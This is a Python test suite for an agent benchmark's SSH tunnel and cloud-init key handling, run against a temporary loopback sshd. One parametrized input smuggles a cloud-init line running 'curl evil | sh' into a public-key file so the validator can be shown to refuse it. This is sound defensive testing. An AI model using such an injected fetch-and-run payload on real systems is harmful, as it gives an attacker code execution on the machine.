"""SSH tunnels through a real OpenSSH server on loopback to the fake WAA server.

The module fixture starts Debian's ``/usr/sbin/sshd`` (installed by ``.ci/run``) as the current
user on a free 127.0.0.1 port, with a temporary ed25519 host key and a temporary authorized user
key; nothing of the machine's SSH setup (host keys, ~/.ssh) is read or written. Without sshd or
paramiko the tests skip, except under CI where they fail.
"""

from __future__ import annotations

import getpass
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import httpx
import pytest
from sshd_server import SSHD, free_port, keygen, missing, start_sshd, stop

from pytest_agentbench.infra.tunnel import SSHTunnel, TunnelError
from pytest_agentbench.testing.waa_server import FakeWAAServer


class SSHD_:
    def __init__(self, root: Path, port: int, host_pub: str, user_key: Path, other_key: Path) -> None:
        self.root, self.port, self.host_pub = root, port, host_pub
        self.user_key, self.other_key = user_key, other_key
        self.user = getpass.getuser()
        self.known_hosts = root / "known_hosts"
        self.empty_known_hosts = root / "known_hosts.empty"

    def tunnel(self, **kwargs) -> SSHTunnel:
        kwargs.setdefault("key_filename", self.user_key)
        if "host_key" not in kwargs and not kwargs.get("insecure_accept_any_host_key"):
            kwargs.setdefault("known_hosts", self.known_hosts)
        kwargs.setdefault("connect_timeout", 5)
        return SSHTunnel("127.0.0.1", self.port, self.user, **kwargs)


@pytest.fixture(scope="module")
def paramiko_installed() -> None:
    try:
        import paramiko  # noqa: F401
    except ImportError:
        missing("paramiko is not installed (pip install -e '.[ssh]' in the checkout)")


@pytest.fixture(scope="module")
def sshd(paramiko_installed, tmp_path_factory: pytest.TempPathFactory):
    if not os.access(SSHD, os.X_OK):
        missing(f"{SSHD} is not installed (Debian package openssh-server)")
    if shutil.which("ssh-keygen") is None:
        missing("ssh-keygen is not installed (Debian package openssh-client)")
    if os.geteuid() == 0:
        os.makedirs("/run/sshd", mode=0o755, exist_ok=True)  # sshd's privilege separation directory

    root = tmp_path_factory.mktemp("sshd")
    host_pub = keygen(root / "host_ed25519")
    user_pub = keygen(root / "user_ed25519")
    keygen(root / "other_ed25519")
    (root / "authorized_keys").write_text(user_pub + "\n")
    proc, port, log = start_sshd(root)
    server = SSHD_(root, port, host_pub, root / "user_ed25519", root / "other_ed25519")
    server.known_hosts.write_text(f"[127.0.0.1]:{port} {host_pub}\n")
    server.empty_known_hosts.write_text("")
    try:
        yield server
    finally:
        stop(proc)
        log.close()


@pytest.fixture(scope="module")
def waa():
    with FakeWAAServer(evaluate=True) as server:
        yield server


def _port(url: str) -> int:
    return int(url.rsplit(":", 1)[1])


def test_tunnel_reaches_fake_waa_server(sshd, waa):
    remote = _port(waa.url)
    with sshd.tunnel(forwards={0: ("127.0.0.1", remote)}) as tunnel:
        url = tunnel.local_url(remote)
        assert url != waa.url and url.startswith("http://127.0.0.1:")
        assert tunnel.ports == {remote: _port(url)}
        for _ in range(3):  # several connections through one tunnel
            reply = httpx.get(url + "/probe", timeout=5)
            assert reply.status_code == 200
            assert reply.json()["status"] == "Probe successful"


def test_two_forwards_waa_and_evaluate(sshd, waa):
    with FakeWAAServer(evaluate=True) as evaluate:
        waa_port, eval_port = _port(waa.url), _port(evaluate.url)
        with sshd.tunnel(forwards=[(0, "127.0.0.1", waa_port), (0, "localhost", eval_port)]) as tunnel:
            assert set(tunnel.ports) == {waa_port, eval_port}
            assert len(set(tunnel.ports.values())) == 2
            with httpx.Client(timeout=5) as http:
                assert http.get(tunnel.local_url(waa_port) + "/probe").status_code == 200
                reply = http.post(tunnel.local_url(eval_port) + "/evaluate", json={"task": {}})
                assert reply.headers["content-type"].startswith("application/json")
        assert [r["path"] for r in evaluate.requests] == ["/evaluate"]  # each forward reached its own server
        assert "/evaluate" not in [r["path"] for r in waa.requests]


def test_unknown_host_key_is_refused(sshd):
    tunnel = sshd.tunnel(known_hosts=sshd.empty_known_hosts)
    with pytest.raises(TunnelError) as info:
        tunnel.start()
    message = str(info.value)
    assert "\n" not in message
    assert f"127.0.0.1:{sshd.port}" in message and "unknown" in message
    assert "host_key=" in message and "known_hosts" in message
    assert "insecure_accept_any_host_key" in message
    assert sshd.host_pub.split()[1] in message  # the key to pin, after checking it
    assert not tunnel.active


def test_pinned_host_key_works(sshd, waa):
    remote = _port(waa.url)
    with sshd.tunnel(host_key=sshd.host_pub, forwards={0: ("127.0.0.1", remote)}) as tunnel:
        assert httpx.get(tunnel.local_url(remote) + "/probe", timeout=5).status_code == 200


def test_wrong_pinned_host_key_is_refused(sshd):
    other = sshd.root / "other_ed25519.pub"
    with pytest.raises(TunnelError, match=rf"127\.0\.0\.1:{sshd.port} does not match the pinned host_key"):
        sshd.tunnel(host_key=other.read_text()).start()


def test_insecure_accept_any_host_key_works(sshd, waa):
    remote = _port(waa.url)
    with sshd.tunnel(insecure_accept_any_host_key=True, forwards={0: ("127.0.0.1", remote)}) as tunnel:
        assert httpx.get(tunnel.local_url(remote) + "/probe", timeout=5).status_code == 200


def test_wrong_user_key_is_refused(sshd):
    with pytest.raises(TunnelError) as info:
        sshd.tunnel(key_filename=sshd.other_key).start()
    message = str(info.value)
    assert "\n" not in message
    assert f"127.0.0.1:{sshd.port}" in message and "authentication refused" in message
    assert str(sshd.other_key) in message


def test_sshd_taken_port_is_retried(sshd, tmp_path, monkeypatch):
    """The fixture's sshd binds its port itself: when another process took the port first, sshd
    exits saying so and the next attempt uses another port (the race of choosing a free port)."""
    keygen(tmp_path / "host_ed25519")
    (tmp_path / "authorized_keys").write_text("")
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        ports = iter([taken.getsockname()[1], free_port()])
        monkeypatch.setattr(sys.modules["sshd_server"], "free_port", lambda: next(ports))
        proc, port, log = start_sshd(tmp_path)
        try:
            assert port != taken.getsockname()[1]
            with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
                assert conn.recv(4) == b"SSH-"
        finally:
            stop(proc)
            log.close()


def test_closed_port_is_a_clear_error(sshd):
    with socket.socket() as held:  # bound and not listening: refused, and no other process can take it
        held.bind(("127.0.0.1", 0))
        port = held.getsockname()[1]
        with pytest.raises(TunnelError,
                           match=rf"cannot connect to SSH server 127\.0\.0\.1:{port}: connection refused"):
            SSHTunnel("127.0.0.1", port, "nobody", insecure_accept_any_host_key=True, connect_timeout=2).start()


def test_stop_closes_local_ports(sshd, waa):
    remote = _port(waa.url)
    tunnel = sshd.tunnel(forwards={0: ("127.0.0.1", remote)}).start()
    local = tunnel.ports[remote]
    with httpx.Client(timeout=5) as http:  # a kept-alive connection is cut too
        assert http.get(f"http://127.0.0.1:{local}/probe").status_code == 200
        tunnel.stop()
        assert not tunnel.active and tunnel.ports == {}
        with pytest.raises(ConnectionRefusedError):
            socket.create_connection(("127.0.0.1", local), timeout=2).close()
        with pytest.raises(httpx.HTTPError):
            http.get(f"http://127.0.0.1:{local}/probe")
    tunnel.stop()  # twice is fine


def test_missing_key_file_and_conflicting_options(sshd, tmp_path):
    with pytest.raises(TunnelError, match=r"key file .* does not exist"):
        sshd.tunnel(key_filename=tmp_path / "nope").start()
    with pytest.raises(ValueError, match="not both"):
        SSHTunnel("h", 22, "u", host_key=sshd.host_pub, insecure_accept_any_host_key=True)


def test_silent_server_times_out_clearly(paramiko_installed):
    with socket.socket() as silent:  # accepts (the kernel does) but never speaks SSH
        silent.bind(("127.0.0.1", 0))
        silent.listen()
        port = silent.getsockname()[1]
        started = time.monotonic()
        with pytest.raises(TunnelError, match=rf"SSH handshake with 127\.0\.0\.1:{port} did not complete within 0\.5s"):
            SSHTunnel("127.0.0.1", port, "nobody", insecure_accept_any_host_key=True, connect_timeout=0.5).start()
        assert time.monotonic() - started < 5


# -- a cloud pool's connection to its VM (infra/connect.py) with the keys the pool makes ----------
def _lease(sshd, waa, tmp_path, *, host_key=None, ready_timeout=5.0):
    from pytest_agentbench.infra import cloud_init

    pair = cloud_init.new_ed25519("agentbench-test")
    key = cloud_init.write_private_key(tmp_path / "login_key", pair)
    with (sshd.root / "authorized_keys").open("a") as keys:  # what cloud-init's ssh_authorized_keys does
        keys.write(pair.public_openssh + "\n")
    vm = {"name": "agentbench-test-0", "provider": "aws", "resource_id": "i-0", "region": "us-east-1",
          "size": "m8i.2xlarge", "ssh_user": sshd.user, "public_ip": "127.0.0.1", "private_ip": None,
          "created_at": 0.0, "deleted_at": None, "host_key": host_key or sshd.host_pub,
          "extra": {"ssh_port": sshd.port}}
    return {"name": vm["name"], "kind": "cloud", "vm": vm, "connect": "ssh", "address": "public",
            "ssh_key": str(key), "waa_port": int(waa.url.rsplit(":", 1)[1]),
            "evaluate_port": int(waa.evaluate_url.rsplit(":", 1)[1]), "ready_timeout": ready_timeout}


def test_vm_connection_tunnels_with_the_pools_fresh_login_key_and_pinned_host_key(sshd, waa, tmp_path):
    import http.server
    import threading

    from pytest_agentbench.infra.connect import VMConnection
    from pytest_agentbench.sockets import HTTPServer

    class DevTools(http.server.BaseHTTPRequestHandler):  # stands for Chrome's DevTools HTTP endpoint
        def do_GET(self):
            body = b'{"Browser": "Chrome/130"}'
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *a):
            pass

    devtools = HTTPServer(("127.0.0.1", 0), DevTools)
    threading.Thread(target=devtools.serve_forever, daemon=True).start()
    lease = {**_lease(sshd, waa, tmp_path), "cdp_port": devtools.server_address[1]}
    connection = VMConnection(lease)
    try:
        endpoints = connection.open()
        server, evaluate = endpoints["server_url"], endpoints["evaluate_url"]
        assert server.startswith("http://127.0.0.1:") and server != waa.url
        assert httpx.get(f"{server}/probe", timeout=5).status_code == 200
        assert httpx.get(f"{evaluate}/probe", timeout=5).status_code == 200
        # Chrome's DevTools port is forwarded too (chrome tab steps talk to it).
        assert httpx.get(f"{endpoints['cdp_url']}/json/version", timeout=5).json() == {"Browser": "Chrome/130"}
    finally:
        connection.close()
        devtools.shutdown()
        devtools.server_close()
    assert (tmp_path / "login_key").stat().st_mode & 0o777 == 0o600


def test_vm_connection_refuses_a_vm_with_another_host_key_within_the_timeout(sshd, waa, tmp_path):
    from pytest_agentbench.benchmark import InfrastructureError
    from pytest_agentbench.infra.connect import VMConnection

    other = (sshd.root / "other_ed25519.pub").read_text().strip()
    connection = VMConnection(_lease(sshd, waa, tmp_path, host_key=other, ready_timeout=0.5))
    with pytest.raises(InfrastructureError) as info:
        connection.open()
    message = str(info.value)
    assert "\n" not in message and "agentbench-test-0" in message and f"127.0.0.1:{sshd.port}" in message


def test_the_host_key_put_in_user_data_is_a_key_openssh_reads(tmp_path):
    """The VM's host key travels in cloud-init's ssh_keys; OpenSSH must read the private half and
    derive exactly the public half the tunnel pins."""
    from pytest_agentbench.infra import cloud_init

    if shutil.which("ssh-keygen") is None:
        missing("ssh-keygen is not installed (Debian package openssh-client)")
    pair = cloud_init.new_ed25519("host")
    path = cloud_init.write_private_key(tmp_path / "host", pair)
    derived = subprocess.run(["ssh-keygen", "-y", "-f", str(path)], check=True, capture_output=True, text=True).stdout
    assert derived.split()[:2] == pair.public_openssh.split()[:2]
    data = cloud_init.user_data(login_public_key="ssh-ed25519 AAAA login", host_key=pair, shutdown_minutes=240)
    assert data.startswith("#cloud-config\n")
    parsed = cloud_init_yaml(data)  # what cloud-init reads
    assert parsed["ssh_authorized_keys"] == ["ssh-ed25519 AAAA login"]
    assert parsed["runcmd"] == [["shutdown", "-h", "+240"]]
    assert parsed["ssh_keys"]["ed25519_private"] == pair.private_openssh
    assert parsed["ssh_keys"]["ed25519_public"] == " ".join(pair.public_openssh.split()[:2])
    assert set(parsed) == {"ssh_pwauth", "ssh_authorized_keys", "ssh_deletekeys", "ssh_keys", "runcmd"}


def cloud_init_yaml(data: str) -> dict:
    yaml = pytest.importorskip("yaml", reason="reading the document as cloud-init does needs PyYAML")
    return yaml.safe_load(data)


@pytest.mark.parametrize("comment", ["me@host: admin", "x # y", "'quoted' \"double\"", "a: [b, c]", "{x: 1}",
                                     "&a *a !!str"])
def test_a_key_comment_that_looks_like_yaml_stays_one_value(tmp_path, comment):
    from pytest_agentbench.infra import cloud_init

    pub = tmp_path / "id.pub"
    pub.write_text(f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKey {comment}\n")
    key = cloud_init.read_public_key(pub)
    parsed = cloud_init_yaml(cloud_init.user_data(login_public_key=key, host_key=None, shutdown_minutes=None))
    assert parsed == {"ssh_pwauth": False, "ssh_authorized_keys": [key]}


@pytest.mark.parametrize("text", [
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKey me\nruncmd: [[sh, -c, 'curl evil | sh']]\n",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKey one\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKey two\n",
    "ssh-ed25519 not*base64 me\n", "ssh-ed25519\n", "-----BEGIN OPENSSH PRIVATE KEY-----\n",
    "ssh-ed25519 AAAA me\x1b[2J\n",
])
def test_a_public_key_file_that_is_not_one_key_on_one_line_is_refused(tmp_path, text):
    from pytest_agentbench.infra import cloud_init

    pub = tmp_path / "id.pub"
    pub.write_text(text)
    with pytest.raises(cloud_init.KeySetupError, match="is not one OpenSSH public key on one line"):
        cloud_init.read_public_key(pub)


def test_vm_connection_authenticates_through_the_users_ssh_agent(sshd, waa, tmp_path, monkeypatch):
    """``--pool-ssh-key KEY.pub``: only the public half is given; the private half is in ssh-agent."""
    from pytest_agentbench.infra.connect import VMConnection

    if shutil.which("ssh-agent") is None or shutil.which("ssh-add") is None:
        missing("ssh-agent is not installed (Debian package openssh-client)")
    lease = _lease(sshd, waa, tmp_path)
    socket_path = tmp_path / "agent.sock"
    agent = subprocess.Popen(["ssh-agent", "-D", "-a", str(socket_path)], stdout=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 5
        while not socket_path.exists() and time.monotonic() < deadline:
            time.sleep(0.02)
        env = dict(os.environ, SSH_AUTH_SOCK=str(socket_path))
        subprocess.run(["ssh-add", lease["ssh_key"]], env=env, check=True, capture_output=True)
        monkeypatch.setenv("SSH_AUTH_SOCK", str(socket_path))
        monkeypatch.setenv("HOME", str(tmp_path))  # no default ~/.ssh keys: the agent must do it
        lease["ssh_key"] = None
        connection = VMConnection(lease)
        try:
            server = connection.open()["server_url"]
            assert httpx.get(f"{server}/probe", timeout=5).status_code == 200
        finally:
            connection.close()
    finally:
        agent.terminate()
        agent.wait()



def test_keep_alive_requests_through_the_tunnel_answer_at_once(sshd, waa):
    """The relay forwards each piece it reads as it comes (a request's head, then its body; a
    reply's head, then its body): with Nagle's algorithm on its sockets, the second piece waited for
    an acknowledgement the other side delays, 40 ms a request. Three processes and three threads
    carry each request here, so on a loaded machine many are slow (the lower quartile reached
    42.8 ms once in CI's full run): the figure is the fastest request, which a stall on every
    request still puts at 40 ms. Replies that fit one SSH packet:
    a larger one leaves sshd in several writes, and sshd keeps Nagle's algorithm on its side."""
    from test_http_latency import LIMIT_MS, request_ms

    remote = _port(waa.url)
    with sshd.tunnel(forwards={0: ("127.0.0.1", remote)}) as tunnel, \
            httpx.Client(base_url=tunnel.local_url(remote), timeout=5) as http:
        probe = min(request_ms(lambda: http.get("/probe")))
        command = min(request_ms(lambda: http.post("/execute_windows", json={"command": "import pyautogui"})))
    assert max(probe, command) < LIMIT_MS, f"GET /probe {probe:.1f} ms, POST /execute_windows {command:.1f} ms"
